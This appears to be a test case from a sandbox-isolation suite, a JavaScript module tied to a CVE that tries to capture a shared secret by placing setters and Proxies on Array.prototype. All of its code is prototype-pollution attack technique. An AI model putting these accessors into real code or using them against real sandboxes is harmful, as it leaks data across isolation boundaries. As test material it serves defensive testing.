// Rule 7: an accessor on `Array.prototype`, for lists that somebody fills by index
// Source: CVE-2026-44008
// Control: shared: secret
export default {
  run(api) {
    for (let i = 0; i < 4; i++) {
      attempt(() => Object.defineProperty(Array.prototype, i, { set(value) { hold(value, this); }, get: () => undefined, configurable: true }));
    }
    attempt(() => Array.prototype.__defineSetter__(1, hold));
    attempt(() => api.call(new Proxy((x) => x, { apply: (_, self, list) => (hold(list), 1) })));
    attempt(() => Object.setPrototypeOf(Array.prototype, new Proxy({}, { set: (...all) => hold(...all) })));
    hold(((...rest) => rest)(1, 2));
  },
};
